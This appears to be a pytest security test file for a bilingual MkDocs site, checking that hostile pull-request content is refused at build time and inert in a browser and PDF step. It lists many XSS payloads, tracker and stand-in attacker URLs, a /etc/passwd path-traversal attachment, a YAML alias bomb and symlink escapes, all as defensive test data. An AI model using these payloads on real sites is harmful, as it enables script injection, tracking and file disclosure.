"""A hostile pull request can't put script, trackers or outside files on the
site, or make the build fetch anything (issue 12, SECURITY.md).

Three layers, each an attack test:
- payloads rendered as the site renders Markdown, then checked by
  hooks/safety.py exactly as a published page is: every one is refused
  (fast: no build);
- one payload per class in a copy of the project, in each language: the
  build fails and names the file (and line);
- what the build lets through is inert in Chromium: no dialog, no request
  off the site, no CSP violation; and the PDF step fetches nothing.
"""
from __future__ import annotations

import functools
import http.server
import os
import socketserver
import sys
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

from conftest import SITE, html_pages
from project_copy import ROOT, append, copy_project, edit, mkdocs_build

LANGS = ("fr", "en")


def _hook(name: str):
    sys.path.insert(0, str(ROOT / "hooks"))
    try:
        return __import__(name)
    finally:
        sys.path.pop(0)


class _Config(yaml.SafeLoader):
    pass


_Config.add_multi_constructor("!", lambda loader, suffix, node: None)   # !ENV … (not needed here)


@functools.cache
def _markdown_options():
    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=_Config)
    names, options = [], {}
    for ext in config["markdown_extensions"]:
        name, opts = next(iter(ext.items())) if isinstance(ext, dict) else (ext, {})
        names.append(name)
        options[name] = dict(opts or {})
    options["pymdownx.snippets"]["base_path"] = [str(ROOT / "docs/_snippets")]
    return names, options


def render_and_check(text: str) -> list[str]:
    """The problems hooks/safety.py finds in a Markdown text, rendered with
    the site's Markdown extensions and placed in an article."""
    import markdown

    names, options = _markdown_options()
    body = markdown.Markdown(extensions=names, extension_configs=options).convert(text)
    return _hook("safety").check_html(f'<article class="md-content__inner md-typeset">{body}</article>')


# --- 1. every payload is refused ---------------------------------------------------

REFUSED = {
    # parser differences: what a browser reads is not what a simple parser reads
    "bogus comment": "<!--> <img src=x onerror=alert(document.domain)> -->",
    "bogus comment dash": "<!---> <img src=x onerror=alert(document.domain)> -->",
    "comment hiding markup": "<!-- <img src=x onerror=alert(document.domain)> -->",
    "cdata": "<![CDATA[ ><img src=x onerror=alert(document.domain)> ]]>",
    "processing instruction": "<?x ><img src=x onerror=alert(document.domain)> ?>",
    "end tag bogus comment": "</ x><img src=x onerror=alert(document.domain)>",
    "noscript differential": '<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>"></noscript>',
    "body attributes": "<body onload=alert(document.domain)>",
    "nul in tag name": "<scr\0ipt>alert(document.domain)</scr\0ipt>",
    # SVG and MathML scripting and animation
    "svg animate": '<svg><animate attributeName="href" to="javascript:alert(document.domain)"/></svg>',
    "svg set": '<svg><a><set attributeName="href" to="javascript:alert(document.domain)"/><text>x</text></a></svg>',
    "svg script": "<svg><script>alert(document.domain)</script></svg>",
    "svg foreignobject": '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
    "mathml href": '<math><mi href="javascript:alert(document.domain)">x</mi></math>',
    "svg image outside": '<svg><image href="https://tracker.example/p.png"/></svg>',
    # event attributes, however written
    "event attribute": "<details open ontoggle=alert(document.domain)>x</details>",
    "event attribute uppercase": '<p ONMOUSEOVER="alert(document.domain)">x</p>',
    "attr_list event": "[x](https://example.org/){ onclick=\"alert(document.domain)\" }",
    # URL schemes
    "javascript link": "[x](javascript:alert(document.domain))",
    "uppercase scheme": "[x](JAVASCRIPT:alert(document.domain))",
    "entity-encoded scheme": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.domain)">x</a>',
    "entity colon": '<a href="javascript&colon;alert(document.domain)">x</a>',
    "tab in scheme": '<a href="java&#x09;script:alert(document.domain)">x</a>',
    "newline in scheme": '<a href="java\nscript:alert(document.domain)">x</a>',
    "leading space and control": '<a href="&#x20;&#x01;javascript:alert(document.domain)">x</a>',
    "vbscript": "[x](vbscript:msgbox)",
    "data html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "svg data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "attr_list href": "[x](https://example.org/){ href=\"javascript:alert(document.domain)\" }",
    # outside requests (trackers)
    "markdown image": "![pixel](https://tracker.example/p.png)",
    "protocol-relative image": "![pixel](//tracker.example/p.png)",
    "backslash image": '<img src="\\\\tracker.example/p.png" alt="">',
    "srcset list": '<img src="a.png" srcset="a.png 1x, https://tracker.example/p.png 2x" alt="">',
    "ping": '<a href="https://example.org/" ping="https://tracker.example/">x</a>',
    "style url": '<p style="background:url(https://tracker.example/p.png)">x</p>',
    "attr_list style": "Texte\n{: style=\"background:url(https://tracker.example/p.png)\" }",
    "style element import": "<style>@import url(https://evil.example/x.css);</style>",
    "video poster": '<video poster="https://tracker.example/p.png"></video>',
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # other documents, navigation and forms
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="q"><button>ok</button></form>',
    # a button is allowed in the content for Copy link / Cite (hooks/cite.py), nothing more
    "button formaction": '<button formaction="https://evil.example/">ok</button>',
    "button form": '<button form="site-search" type="submit">ok</button>',
    "button handler": '<button type="button" onclick="alert(document.domain)">ok</button>',
    "cite button of the author's choosing": '<button type="button" class="cite-button" data-cite="x:alert(1)">ok</button>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(document.domain)&lt;/script&gt;"></iframe>',
    "template": "<template><img src=x onerror=alert(document.domain)></template>",
    "textarea breakout": "<textarea></textarea><img src=x onerror=alert(document.domain)>",
    # the PDF would embed a file
    "attachment": '<a rel="attachment" href="../../../../etc/passwd">x</a>',
    # search attributes (hooks/search_filters.py): only the values the build writes
    "search filter other name": '<span data-pagefind-filter="organisation[data-value], secret:x" data-value="A"></span>',
    "search filter reads another attribute": '<span data-pagefind-filter="kind[title]" title="x"></span>',
    "search filter on another element": '<a href="/" data-pagefind-filter="year[data-value]" data-value="1">x</a>',
    "search weight not a number": '<h1 data-pagefind-weight="10 onmouseover=alert(1)">x</h1>',
    "search weight too high": "# Titre { data-pagefind-weight=\"1000\" }",
    "search meta of the author's choosing": '<span data-pagefind-meta="image[src]"></span>',
    "search meta on another element": '<p data-pagefind-meta="organisation[data-value]" data-value="x">x</p>',
}


def test_the_search_attributes_the_build_writes_are_allowed():
    """What hooks/search_filters.py and organisation_pages.py write passes, so
    the refusals above are about the values, not the attributes."""
    written = ('<p hidden><span data-pagefind-filter="organisation[data-value]" data-value="F.I.T « Une femme, '
               'un toit »" hidden></span><span data-pagefind-filter="year[data-value]" data-value="2013" hidden>'
               '</span><span data-pagefind-meta="organisation[data-value]" data-value="Hors la Rue" hidden></span>'
               '</p>\n\n# Hors la Rue { data-pagefind-weight="10" }')
    assert render_and_check(written) == []


@pytest.mark.parametrize("payload", REFUSED.values(), ids=REFUSED.keys())
def test_every_payload_is_refused(payload):
    assert render_and_check(payload), f"nothing refused in {payload!r}"


def test_the_check_sees_the_published_page_not_the_markdown():
    """A title made of entities comes back as markup through striptags: the
    theme part of a page is checked too, and its scripts must be known."""
    safety = _hook("safety")
    page = (SITE / "index.html") if (SITE / "index.html").exists() else None
    theme = ('<!doctype html><html lang=fr><head><meta charset=utf-8><title>x</title>'
             '<meta property="og:title" content="x"><script>alert(document.domain)</script></head>'
             '<body><header><img src=x onerror=alert(document.domain)></header></body></html>')
    problems = safety.check_html(theme, theme=True)
    assert any("inline <script>" in p for p in problems), problems
    assert any("onerror" in p for p in problems), problems
    if page:  # the real theme passes, unchanged
        safety.SITE_HOST["host"] = urlsplit(os.environ.get("SITE_URL", "https://www.contrelatraite.org/")).netloc
        article, around = safety.split_article(page.read_text(encoding="utf-8"))
        assert safety.check_html(article) == [] and safety.check_html(around, theme=True) == []


# --- 2. one payload per class, in a copy of the project, in each language -----------

def _page(root, lang, text):
    path = root / f"docs/a-propos.{lang}.md"
    return f"docs/a-propos.{lang}.md", append(path, text)


def _parser_trick(root, lang):
    return _page(root, lang, "<!--> <img src=x onerror=alert(document.domain)> -->")


def _svg_animation(root, lang):
    return _page(root, lang, '<svg><animate attributeName="href" to="javascript:alert(document.domain)"/></svg>')


def _entity_scheme(root, lang):
    return _page(root, lang, "[x](JavaScript&colon;alert(document.domain))")


def _tracker_image(root, lang):
    return _page(root, lang, "![](https://tracker.example/pixel.png)")


def _srcset(root, lang):
    return _page(root, lang, '<img src="a.png" srcset="a.png, https://tracker.example/p.png" alt="">')


def _front_matter_title(root, lang):
    """YAML escapes make markup of a title (the other language gets the same
    numbers, so that the parity check is not what fails)."""
    path = root / f"docs/a-propos.{lang}.md"
    n = edit(path, "title: ", 'title: "\\x3cimg src=x onerror=alert(document.domain)\\x3e"\nx_title: ')
    other = "en" if lang == "fr" else "fr"
    edit(root / f"docs/a-propos.{other}.md", "title: ", 'x_note: "3 3"\ntitle: ')
    return f"docs/a-propos.{lang}.md", n


def _html_file(root, lang):
    (root / f"docs/evil.{lang}.html").write_text("<script>alert(document.domain)</script>", encoding="utf-8")
    return f"docs/evil.{lang}.html", None


def _svg_file(root, lang):
    (root / f"docs/reunions/logo-{lang}.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" '
                                                         'onload="alert(document.domain)"/>', encoding="utf-8")
    return f"docs/reunions/logo-{lang}.svg", None


def _snippet_outside(root, lang):
    return _page(root, lang, '--8<-- "../../hooks/common.py"')


def _snippet_symlink(root, lang):
    link = root / f"docs/_snippets/secret.{lang}.md"
    link.symlink_to(root / "mkdocs.yml")
    return f"docs/_snippets/secret.{lang}.md", None


def _yaml_alias_bomb(root, lang):
    bomb = "\n".join(['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
                     + [f"{c}: &{c} [{', '.join(['*' + p] * 9)}]" for p, c in zip("abcdefgh", "bcdefghi")])
    path = root / f"docs/a-propos.{lang}.md"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("---\n", "---\n" + bomb + "\n", 1), encoding="utf-8")
    return f"docs/a-propos.{lang}.md", 2


def _yaml_nesting(root, lang):
    n = append(root / f"data/glossary.{lang}.yml", "zz_deep: " + "[" * 50_000 + "]" * 50_000)
    return f"data/glossary.{lang}.yml", n


def _deep_nesting(root, lang):
    path = root / f"docs/a-propos.{lang}.md"
    path.write_text(path.read_text(encoding="utf-8") + "\n" + "<div markdown>\n" * 900 + "x\n" + "</div>\n" * 900,
                    encoding="utf-8")
    return f"docs/a-propos.{lang}.md", None


def _huge_page(root, lang):
    path = root / f"docs/a-propos.{lang}.md"
    path.write_text(path.read_text(encoding="utf-8") + ("Texte sans fin. " * 64 + "\n\n") * 20_000, encoding="utf-8")
    return f"docs/a-propos.{lang}.md", None


CLASSES = [_parser_trick, _svg_animation, _entity_scheme, _tracker_image, _srcset, _front_matter_title,
           _html_file, _svg_file, _snippet_outside, _snippet_symlink, _yaml_alias_bomb, _yaml_nesting, _deep_nesting,
           _huge_page]


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("case", CLASSES, ids=lambda c: c.__name__.strip("_"))
def test_the_build_refuses_the_attack_and_names_the_file(case, lang, tmp_path):
    root = copy_project(tmp_path / "project")
    file, line = case(root, lang)
    run = mkdocs_build(root)
    out = run.stdout + run.stderr
    assert run.returncode != 0, f"the build passed despite {case.__name__} ({lang}):\n{out[-3000:]}"
    where = f"{file}:{line}:" if line else file
    assert where in out, f"the message does not name {where!r}:\n{out[-3000:]}"
    assert "Traceback" not in out, f"a traceback instead of a message:\n{out[-3000:]}"


# --- 3. what gets through is inert in Chromium; the PDF step fetches nothing ----------

INERT = {  # published as text: shown, never run
    "heading": "## &lt;img src=x onerror=alert(document.domain)&gt; { #inert-heading }",
    "code": "```html\n<script>alert(document.domain)</script>\n```",
    "abbr": "*[infobulle]: <img src=x onerror=alert(document.domain)>\n\ninfobulle",
    "link": "[site](https://example.org/) and [mail](mailto:a@example.org)",
    "title attribute": '[x](https://example.org/ "\\"><img src=x onerror=alert(document.domain)>")',
}


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


def test_what_the_build_publishes_is_inert_in_chromium(tmp_path, browser):
    root = copy_project(tmp_path / "project")
    for lang in LANGS:
        path = root / f"docs/a-propos.{lang}.md"
        for payload in INERT.values():
            append(path, payload)
    # the page title comes from an H1 made of entities (striptags would turn it into markup)
    for lang in LANGS:
        path = root / f"docs/mentions-legales.{lang}.md"
        text = path.read_text(encoding="utf-8")
        head, sep, body = text.partition("\n# ")
        assert sep, "docs/mentions-legales has no H1: update the test"
        title_line, _, rest = body.partition("\n")
        path.write_text(head + sep + "&lt;img src=x onerror=alert(document.domain)&gt; " + title_line + "\n" + rest,
                        encoding="utf-8")
    run = mkdocs_build(root)
    assert run.returncode == 0, (run.stdout + run.stderr)[-3000:]
    site = root / "out"
    for page in site.rglob("mentions-legales/index.html"):
        html = page.read_text(encoding="utf-8")
        assert "<img src=x" not in html, f"{page}: the title came back as markup"
    handler = functools.partial(_Quiet, directory=str(site))
    httpd = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    server = f"http://127.0.0.1:{httpd.server_address[1]}"
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    from test_privacy import CSP_LISTENER
    context.add_init_script(CSP_LISTENER)
    page = context.new_page()
    problems: list[str] = []
    page.on("dialog", lambda d: (problems.append(f"a dialog opened: {d.message}"), d.dismiss()))
    page.on("request", lambda r: r.url.startswith((server, "data:", "blob:", "about:"))
            or problems.append(f"request leaves the site: {r.url}"))
    try:
        for lang_prefix in ("", "en/"):
            for name in ("a-propos", "mentions-legales"):
                url = f"{server}/{lang_prefix}{name}/"
                page.goto(url, wait_until="networkidle")
                for link in page.locator("article abbr, article a").all()[:20]:
                    link.hover()
                problems += [f"{url}: CSP violation: {v}" for v in page.evaluate("window.__csp")]
                assert page.locator("article").inner_text().count("onerror") >= 1, "the payloads are not shown"
    finally:
        context.close()
        httpd.shutdown()
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("html, word", [
    ('<img src="http://127.0.0.1:9/pixel.png" alt="">', "http://127.0.0.1:9/pixel.png"),
    ('<p style="background:url(http://127.0.0.1:9/bg.png)">x</p>', "http://127.0.0.1:9/bg.png"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "https://evil.example/x.css"),
    ('<img src="../../../../../../etc/hostname" alt="">', "file:///etc/hostname"),
    ('<a rel="attachment" href="pdf.css">x</a>', "attachment"),
])
def test_the_pdf_step_fetches_nothing_from_outside(html, word, tmp_path):
    """WeasyPrint's fetcher serves the print template's files only; a refusal is an error."""
    pdf = _hook("pdf")
    doc = f'<!doctype html><html lang="fr"><head><link rel="stylesheet" href="pdf.css"></head><body>{html}</body></html>'
    with pytest.raises(ValueError) as err:
        pdf.write_pdf(doc, tmp_path / "x.pdf")
    assert word in str(err.value)
    assert not (tmp_path / "x.pdf").exists()


def test_the_pdf_step_has_limits(tmp_path):
    pdf = _hook("pdf")
    common = _hook("common")
    target = tmp_path / "compte-rendu-2013-10-18-fr.pdf"
    with pytest.raises(common.BuildError, match="too long"):
        pdf.check_limits("<p>x</p>" * (pdf.MAX_HTML // 8 + 1), target)
    with pytest.raises(common.BuildError, match="nest"):
        pdf.check_limits("<div>" * (pdf.MAX_DEPTH + 1), target)
    pdf.check_limits("<div><p>x</p></div>", target)


def test_every_published_file_is_allowed(site):
    """Nothing under site/ but what the build makes and the allowed types."""
    inputs = _hook("inputs")
    assert not inputs.check_tree(ROOT / "docs", ROOT / "data")
    assert html_pages(site)
    assert not [p for p in site.rglob("*.svg")], "an SVG file is published"
    assert not any(p.is_symlink() for p in site.rglob("*"))


def test_the_safety_hook_runs_last():
    """The check must see the page after every other hook (search.py, minify.py)."""
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    assert "hooks/safety.py" in text and "hooks/inputs.py" in text
    src = (ROOT / "hooks/safety.py").read_text(encoding="utf-8")
    assert "@event_priority(-100)   # after every other hook" in src
